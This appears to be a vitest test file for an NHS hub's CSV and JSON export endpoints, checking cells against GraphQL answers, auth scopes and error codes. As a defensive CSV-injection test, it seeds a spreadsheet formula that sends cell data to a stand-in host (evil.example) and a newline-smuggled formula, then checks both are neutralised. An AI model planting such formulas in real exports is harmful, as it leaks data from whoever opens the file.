import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { EXPORT_DOCUMENTS, REGION_RANKING_COLUMNS, REGION_STP_COLUMNS, STP_COLUMNS, toCsv } from './exports.js';
import { buildSchema, parse as parseGraphQL, validate } from 'graphql';
import { postGraphQL, signTestToken, startTestGraph, TEST_JWT_SECRET, type TestGraph } from './testing.js';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runLoadCommand } from '../../scripts/load.js';
import { loadAllSubgraphs, REPO_ROOT } from './config.js';
import type {
  ExportCheckRegionQuery,
  ExportCheckRegionQueryVariables,
  ExportCheckStpsQuery,
  ExportCheckStpsQueryVariables,
} from './generated/exports-test.js';

/**
 * GET /exports/...: CSV and JSON files for directors' tools, parsed back with csv-parse and compared
 * cell by cell with what GraphQL answers for the same data (queries written here, not the export's).
 */
process.env.HUB_JWT_SECRET = TEST_JWT_SECRET;
const temp = mkdtempSync(join(tmpdir(), 'hub-exports-'));
const HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")';
const AS_OF = '2018-06-01';
const LF_PAYLOAD = 'approx\n=2+3';

let graph: TestGraph;
let origin: string;
beforeAll(async () => {
  graph = await startTestGraph(await loadAllSubgraphs());
  origin = new URL(graph.gatewayUrl).origin;
  // A workforce statement as a hostile source file could carry it, loaded the way data engineers load.
  // Statements must stand on their cited line, so the hostile text rides in the free-text qualifier,
  // beside a real line that begins with "-": both come first among Lincolnshire's facts (id order).
  const rows = [
    {
      id: 'workforce.QJM.0',
      stp_code: 'QJM',
      kind: 'STAFFING_CHALLENGE',
      value: null,
      unit: null,
      qualifier: HOSTILE,
      statement: '- Significant staffing challenges',
      source_document: 'seeds/000_647e8cd618725ea4.txt',
      source_line: 33,
    },
  ];
  // Issue 23: a bare LF in loaded text started a CSV line with "=2+3" (rows end in CRLF, so the cell
  // was not quoted, and only a cell's first character was checked).
  rows.push({ ...rows[0], id: 'workforce.QJM.0a', qualifier: LF_PAYLOAD } as (typeof rows)[number]);
  writeFileSync(join(temp, 'hostile.json'), JSON.stringify(rows));
  const err: string[] = [];
  const code = await runLoadCommand(
    ['workforce', 'workforce_fact', 'hostile.json', `--schema=${graph.subgraphs.workforce?.schemaName}`],
    {
      database: graph.hub.database,
      cwd: temp,
      stdout: () => undefined,
      stderr: (line) => err.push(line),
    },
  );
  expect(code, err.join('\n')).toBe(0);
});
afterAll(async () => {
  await graph.close();
  rmSync(temp, { recursive: true, force: true });
});

const get = (path: string, headers: Record<string, string> = {}) => fetch(`${origin}${path}`, { headers });
/** OWASP CSV injection: what a text cell must look like once neutralised (independent of the implementation). */
const defused = (value: string) =>
  value
    .split(/(\r\n|\n|\r)/)
    .map((part, i) =>
      i % 2 === 0 && (/^[=+\-@\t\r]/.test(part) || (i === 0 && part === '' && value.startsWith('\r')))
        ? `'${part}`
        : part,
    )
    .join('');
const cite = (s: { document: { file: string }; line: number } | null | undefined) =>
  s ? `${s.document.file}:${s.line}` : '';

function parseCsv(body: string): Record<string, string>[] {
  return parse(body, { bom: true, columns: true, skip_empty_lines: true }) as Record<string, string>[];
}

// Codegen reads these documents from this file (`/* GraphQL */`) and types their answers in
// generated/exports-test.ts: `npm run codegen -w @nhs-hub/client` after changing one.
// Citations inline, as in the export's own document (see its note on the cost limit).
const STPS = /* GraphQL */ `
  query ExportCheckStps($asOf: Date, $offset: Int) {
    stps(first: 40, offset: $offset) {
      hasNextPage
      nodes {
        code
        onsCode
        name
        population
        populationSource { document { file } line text }
        icsStatus
        region(asOf: $asOf) { code name }
        leads { name affiliationAsWritten source { document { file } line text } }
        financialGap {
          healthcareGbpM
          socialCareGbpM
          combinedGbpM
          proposedSavingsGbpM
          capitalRequiredGbpM
          flags { code }
          sources { document { file } line text }
        }
        proposedSavings { source { document { file } line text } }
        capitalRequired { source { document { file } line text } }
        workforceFacts { statement qualifier source { document { file } line text } }
      }
    }
  }
`;
type StpAnswer = ExportCheckStpsQuery['stps']['nodes'][number];

/** The cells GraphQL's answer says a row must hold: the gap parts' lines are those the gap cites, by their label. */
function expectedStpCells(stp: StpAnswer): Record<string, string> {
  const gap = stp.financialGap;
  const part = (label: RegExp, value: string | null | undefined) =>
    value == null ? '' : cite(gap?.sources.find((s) => label.test(s.text)));
  const list = (values: (string | null)[]) => values.map((v) => v ?? '').join('; ');
  return {
    code: stp.code,
    onsCode: stp.onsCode,
    name: stp.name,
    asOf: AS_OF,
    regionCode: stp.region?.code ?? '',
    regionName: stp.region?.name ?? '',
    leads: list(stp.leads.map((l) => l.name)),
    leadAffiliations: list(stp.leads.map((l) => l.affiliationAsWritten)),
    leadSources: list(stp.leads.map((l) => cite(l.source))),
    population: stp.population === null ? '' : String(stp.population),
    populationSource: cite(stp.populationSource),
    healthcareGapGbpM: gap?.healthcareGbpM ?? '',
    healthcareGapSource: part(/\bHealthcare\b/i, gap?.healthcareGbpM),
    socialCareGapGbpM: gap?.socialCareGbpM ?? '',
    socialCareGapSource: part(/\bSocial care\b/i, gap?.socialCareGbpM),
    combinedGapGbpM: gap?.combinedGbpM ?? '',
    combinedGapSource: part(/\bCombined\b/i, gap?.combinedGbpM),
    proposedSavingsGbpM: gap?.proposedSavingsGbpM ?? '',
    proposedSavingsSource: gap?.proposedSavingsGbpM == null ? '' : cite(stp.proposedSavings?.source),
    capitalRequiredGbpM: gap?.capitalRequiredGbpM ?? '',
    capitalRequiredSource: gap?.capitalRequiredGbpM == null ? '' : cite(stp.capitalRequired?.source),
    icsStatus: stp.icsStatus ?? '',
    flags: (gap?.flags ?? []).map((f) => f.code).join('; '),
    workforceStatements: list(stp.workforceFacts.map((f) => f.statement)),
    workforceQualifiers: list(stp.workforceFacts.map((f) => f.qualifier)),
    workforceSources: list(stp.workforceFacts.map((f) => cite(f.source))),
  };
}
const NUMERIC = new Set(STP_COLUMNS.filter((c) => c.kind === 'number').map((c) => c.key as string));

describe('GET /exports/stps.csv', () => {
  it('is RFC 4180 CSV with a BOM, dated, and every cell is what GraphQL answers', async () => {
    const res = await get(`/exports/stps.csv?asOf=${AS_OF}`);
    expect(res.status, res.status === 200 ? '' : await res.clone().text()).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toBe(`attachment; filename="nhs-stps-${AS_OF}.csv"`);
    const bytes = new Uint8Array(await res.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const body = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
    expect(body).toContain('\r\n');
    const rows = parseCsv(body);
    expect(Object.keys(rows[0] ?? {})).toEqual(STP_COLUMNS.map((c) => c.key));

    const stps: StpAnswer[] = [];
    for (let more = true; more; ) {
      const variables: ExportCheckStpsQueryVariables = { asOf: AS_OF, offset: stps.length };
      const { body: answer } = await postGraphQL<ExportCheckStpsQuery>(graph.gatewayUrl, STPS, variables);
      expect(answer.errors).toBeUndefined();
      stps.push(...(answer.data?.stps.nodes ?? []));
      more = answer.data?.stps.hasNextPage ?? false;
    }
    expect(stps.length).toBeGreaterThanOrEqual(44);
    expect(rows.map((r) => r.code).sort()).toEqual(stps.map((s) => s.code).sort());
    for (const stp of stps) {
      const row = rows.find((r) => r.code === stp.code);
      const expected = Object.fromEntries(
        Object.entries(expectedStpCells(stp)).map(([k, v]) => [k, NUMERIC.has(k) ? v : defused(v)]),
      );
      expect(row, stp.code).toEqual(expected);
    }

    // Spot checks against the seeds, so the comparison above cannot pass on two empty answers.
    const qf7 = rows.find((r) => r.code === 'QF7');
    expect(qf7).toMatchObject({
      healthcareGapGbpM: '641',
      socialCareGapGbpM: '107',
      combinedGapGbpM: '571',
      healthcareGapSource: expect.stringMatching(/:533$/),
      combinedGapSource: expect.stringMatching(/:541$/),
    });
    expect(qf7?.flags).toContain('SUM_MISMATCH');
    const qjm = rows.find((r) => r.code === 'QJM');
    expect(qjm).toMatchObject({
      name: 'Lincolnshire',
      population: '700000',
      regionCode: 'Y55',
      regionName: 'Midlands and East of England',
      leads: 'Allan Kitt',
      combinedGapGbpM: '182',
      capitalRequiredGbpM: '205',
    });
    // The loaded statement comes out as text a spreadsheet will not run.
    expect(qjm?.workforceQualifiers?.startsWith(`'${HOSTILE}; approx\n'=2+3; ≈`)).toBe(true);
    expect(
      qjm?.workforceStatements?.startsWith(
        "'- Significant staffing challenges; - Significant staffing challenges; high vacancy rate",
      ),
    ).toBe(true);
    expect(body).not.toMatch(/(^|,)"?=HYPERLINK/m);
    // No physical line of the file starts a formula: the LF is inside a quoted cell, and its line is defused.
    expect(body.split(/\r\n|\n|\r/).filter((line) => /^[=+\-@\t]/.test(line))).toEqual([]);
    expect(body).toContain("approx\n'=2+3");
  });

  it('answers the same rows as JSON, figures as exact decimal strings', async () => {
    const [csv, json] = await Promise.all([
      get(`/exports/stps.csv?asOf=${AS_OF}`),
      get(`/exports/stps.json?asOf=${AS_OF}`),
    ]);
    expect(json.headers.get('content-type')).toBe('application/json; charset=utf-8');
    expect(json.headers.get('content-disposition')).toBe(`attachment; filename="nhs-stps-${AS_OF}.json"`);
    const data = (await json.json()) as { asOf: string; stps: Record<string, string | number | null>[] };
    expect(data.asOf).toBe(AS_OF);
    const rows = parseCsv(await csv.text());
    expect(data.stps.length).toBe(rows.length);
    for (const [i, row] of rows.entries()) {
      const cells = Object.fromEntries(
        Object.entries(data.stps[i] ?? {}).map(([k, v]) => [
          k,
          v === null ? '' : NUMERIC.has(k) ? String(v) : defused(String(v)),
        ]),
      );
      expect(cells).toEqual(row);
    }
    expect(data.stps.find((s) => s.code === 'QJM')?.workforceQualifiers).toContain(HOSTILE);
  });

  it('defaults asOf to today, refuses a bad one with 400 and a bad token with 401', async () => {
    const today = new Date().toISOString().slice(0, 10);
    const res = await get('/exports/stps.csv');
    expect(res.headers.get('content-disposition')).toBe(`attachment; filename="nhs-stps-${today}.csv"`);
    const rows = parseCsv(await res.text());
    expect(rows.find((r) => r.code === 'QJM')?.regionCode).toBe('Y60');
    const bad = await get('/exports/stps.csv?asOf=2019-13-45');
    expect(bad.status).toBe(400);
    expect(((await bad.json()) as { errors: { message: string }[] }).errors[0]?.message).toMatch(
      /asOf must be an ISO 8601 calendar date/,
    );
    expect((await get('/exports/stps.csv', { authorization: 'Bearer forged.token.here' })).status).toBe(401);
    // A valid token travels through (the same answer: nothing in this export is restricted).
    const withToken = await get(`/exports/stps.json?asOf=${AS_OF}`, {
      authorization: await signTestToken({ scope: 'region:director' }),
    });
    expect(withToken.status).toBe(200);
  });
});

describe('GET /exports/regions/{code}/stps.csv', () => {
  const REGION = /* GraphQL */ `
    query ExportCheckRegion($code: ID!, $asOf: Date) {
      regionSnapshot(code: $code, asOf: $asOf) {
        regionCode
        asOf
        population
        region { name }
        stps {
          code
          name
          population
          financialGap { combinedGbpM proposedSavingsGbpM capitalRequiredGbpM flags { code } }
          gapPerHeadDerived { gbpPerPerson formula }
        }
        financialSummary { combinedGapGbpM capitalRequiredGbpM proposedSavingsGbpM gapPerHeadGbp flags { code } }
      }
    }
  `;

  it("lists the region's member STPs as stated, then the totals and per-head gap the hub DERIVES", async () => {
    const res = await get('/exports/regions/Y60/stps.csv?asOf=2020-01-01');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="nhs-region-Y60-stps-2020-01-01.csv"');
    const rows = parseCsv(await res.text());
    expect(Object.keys(rows[0] ?? {})).toEqual(REGION_STP_COLUMNS.map((c) => c.key));
    const variables: ExportCheckRegionQueryVariables = { code: 'Y60', asOf: '2020-01-01' };
    const { body } = await postGraphQL<ExportCheckRegionQuery>(graph.gatewayUrl, REGION, variables);
    const snapshot = body.data?.regionSnapshot;
    if (!snapshot) throw new Error(JSON.stringify(body.errors));
    expect(snapshot.stps.length).toBeGreaterThan(5);
    expect(rows.length).toBe(snapshot.stps.length + 1);
    for (const [i, stp] of snapshot.stps.entries()) {
      expect(rows[i]).toEqual({
        basis: 'STATED',
        regionCode: 'Y60',
        regionName: snapshot.region?.name ?? '',
        asOf: '2020-01-01',
        stpCode: stp.code,
        stpName: stp.name,
        population: stp.population === null ? '' : String(stp.population),
        combinedGapGbpM: stp.financialGap?.combinedGbpM ?? '',
        proposedSavingsGbpM: stp.financialGap?.proposedSavingsGbpM ?? '',
        capitalRequiredGbpM: stp.financialGap?.capitalRequiredGbpM ?? '',
        gapPerHeadGbpDerived: stp.gapPerHeadDerived?.gbpPerPerson ?? '',
        gapPerHeadFormula: stp.gapPerHeadDerived?.formula ?? '',
        flags: (stp.financialGap?.flags ?? []).map((f) => f.code).join('; '),
      });
    }
    const total = rows.at(-1);
    const summary = snapshot.financialSummary;
    expect(total).toMatchObject({
      basis: 'DERIVED',
      stpCode: '',
      stpName: expect.stringContaining('TOTAL (DERIVED)'),
      population: String(snapshot.population ?? ''),
      combinedGapGbpM: summary.combinedGapGbpM ?? '',
      capitalRequiredGbpM: summary.capitalRequiredGbpM ?? '',
      proposedSavingsGbpM: summary.proposedSavingsGbpM ?? '',
      gapPerHeadGbpDerived: summary.gapPerHeadGbp ?? '',
      flags: summary.flags.map((f) => f.code).join('; '),
    });
    expect(total?.gapPerHeadFormula).toContain('DERIVED');

    const json = (await (await get('/exports/regions/Y60/stps.json?asOf=2020-01-01')).json()) as {
      regionCode: string;
      stps: unknown[];
      totals: { basis: string; combinedGapGbpM: string | null };
    };
    expect(json.regionCode).toBe('Y60');
    expect(json.stps.length).toBe(snapshot.stps.length);
    expect(json.totals).toMatchObject({ basis: 'DERIVED', combinedGapGbpM: summary.combinedGapGbpM });
  });

  it('answers 404 for an unknown region, 400 for a malformed code or a bad date, with clear messages', async () => {
    // As docs/frontend.md says: a code that cannot be a region's is the caller's mistake, not a miss.
    const malformed = await get('/exports/regions/nope/stps.csv');
    expect(malformed.status).toBe(400);
    const badInput = (await malformed.json()) as { errors: { message: string; extensions: { code: string } }[] };
    expect(badInput.errors[0]?.extensions.code).toBe('BAD_USER_INPUT');
    expect(badInput.errors[0]?.message).toContain('nope');
    const missing = await get('/exports/regions/Y99/stps.csv?asOf=2020-01-01');
    expect(missing.status).toBe(404);
    const notFound = (await missing.json()) as { errors: { message: string; extensions: { code: string } }[] };
    expect(notFound.errors[0]?.extensions.code).toBe('NOT_FOUND');
    expect(notFound.errors[0]?.message).toContain('Y99');
    expect((await get('/exports/regions/Y60/stps.json?asOf=yesterday')).status).toBe(400);
    expect((await get('/exports/nothing.csv')).status).toBe(404);
  });
});

describe('GET /exports/regions/{code}/rankings.csv', () => {
  /** The public operation directors' tools run (schema/operations/), not the export's own document. */
  const RANKINGS = readFileSync(`${REPO_ROOT}schema/operations/RegionRankings.graphql`, 'utf8');
  type Rankings = {
    regionSnapshot: {
      financialSummary: {
        rankings:
          | {
              rank: number;
              stpCode: string;
              valueGbpM: string;
              gbpPerPerson: string | null;
              financialGap: { flags: { code: string }[] };
            }[]
          | null;
      };
    } | null;
  };
  const NAMES =
    'query($code: ID!, $asOf: Date) { regionSnapshot(code: $code, asOf: $asOf) { region { name } stps { code name } } }';

  it('gives a director the league table GraphQL ranks, cell by cell, for each order', async () => {
    const authorization = await signTestToken({ scope: 'region:director' });
    const names = await postGraphQL<{
      regionSnapshot: { region: { name: string } | null; stps: { code: string; name: string }[] };
    }>(graph.gatewayUrl, NAMES, { code: 'Y60', asOf: '2020-01-01' });
    const nameOf = new Map(names.body.data?.regionSnapshot.stps.map((s) => [s.code, s.name]));
    for (const by of ['COMBINED_GAP', 'GAP_PER_HEAD'] as const) {
      const res = await get(`/exports/regions/Y60/rankings.csv?asOf=2020-01-01&by=${by}`, { authorization });
      expect(res.status).toBe(200);
      expect(res.headers.get('content-disposition')).toBe(
        `attachment; filename="nhs-region-Y60-rankings-${by.toLowerCase().replace('_', '-').replace('_', '-')}-2020-01-01.csv"`,
      );
      const rows = parseCsv(await res.text());
      expect(Object.keys(rows[0] ?? {})).toEqual(REGION_RANKING_COLUMNS.map((c) => c.key));
      const { body } = await postGraphQL<Rankings>(
        graph.gatewayUrl,
        RANKINGS,
        { code: 'Y60', asOf: '2020-01-01', by },
        { authorization },
      );
      const ranked = body.data?.regionSnapshot?.financialSummary.rankings;
      if (!ranked) throw new Error(JSON.stringify(body.errors));
      expect(ranked.length).toBeGreaterThan(5);
      expect(rows).toEqual(
        ranked.map((r) => ({
          regionCode: 'Y60',
          regionName: names.body.data?.regionSnapshot.region?.name ?? '',
          asOf: '2020-01-01',
          rankedBy: by,
          rank: String(r.rank),
          stpCode: r.stpCode,
          stpName: nameOf.get(r.stpCode) ?? '',
          valueGbpM: r.valueGbpM,
          gbpPerPersonDerived: r.gbpPerPerson ?? '',
          flags: r.financialGap.flags.map((f) => f.code).join('; '),
        })),
      );
    }
    expect(
      parseCsv(await (await get('/exports/regions/Y60/rankings.csv?asOf=2020-01-01', { authorization })).text())[0],
    ).toMatchObject({ rank: '1', stpCode: 'QHL', rankedBy: 'COMBINED_GAP' });
  });

  it('refuses a caller without the director scope with 403, as GraphQL does, and a bad order with 400', async () => {
    const withoutScope: Record<string, string>[] = [{}, { authorization: await signTestToken({ scope: 'stp:read' }) }];
    for (const headers of withoutScope) {
      const refused = await get('/exports/regions/Y60/rankings.csv?asOf=2020-01-01', headers);
      expect(refused.status).toBe(403);
      const body = (await refused.json()) as { errors: { message: string; extensions: { code: string } }[] };
      expect(body.errors[0]?.extensions.code).toBe('FORBIDDEN');
      expect(body.errors[0]?.message).toContain('region:director');
    }
    const authorization = await signTestToken({ scope: 'region:director' });
    const badOrder = await get('/exports/regions/Y60/rankings.json?by=LARGEST', { authorization });
    expect(badOrder.status).toBe(400);
    expect(((await badOrder.json()) as { errors: { message: string }[] }).errors[0]?.message).toContain('COMBINED_GAP');
    expect((await get('/exports/regions/Y99/rankings.csv', { authorization })).status).toBe(404);
    // The public export of the same region needs no scope.
    expect((await get('/exports/regions/Y60/stps.csv?asOf=2020-01-01')).status).toBe(200);
  });
});

describe('CSV cells', () => {
  it('keeps numbers numbers and neutralises every formula trigger in text', () => {
    const columns = [
      { key: 'value', kind: 'number' },
      { key: 'note', kind: 'text' },
    ] as const;
    const csv = toCsv(columns, [
      { value: '-12.5', note: '-12.5' },
      { value: 3, note: '+1' },
      { value: null, note: '@SUM(A1)' },
      { value: '0', note: '\tx' },
      { value: '1', note: '\rx' },
      { value: '2', note: 'plain, "quoted"' },
    ]);
    expect(parse(csv, { bom: true, columns: true })).toEqual([
      { value: '-12.5', note: "'-12.5" },
      { value: '3', note: "'+1" },
      { value: '', note: "'@SUM(A1)" },
      { value: '0', note: "'\tx" },
      { value: '1', note: "'\rx" },
      { value: '2', note: 'plain, "quoted"' },
    ]);
  });

  it('builds on documents valid against the checked-in API schema', () => {
    const apiSchema = buildSchema(readFileSync(`${REPO_ROOT}schema/api.graphql`, 'utf8'));
    for (const document of Object.values(EXPORT_DOCUMENTS))
      expect(validate(apiSchema, parseGraphQL(document)).map((e) => e.message)).toEqual([]);
  });
});
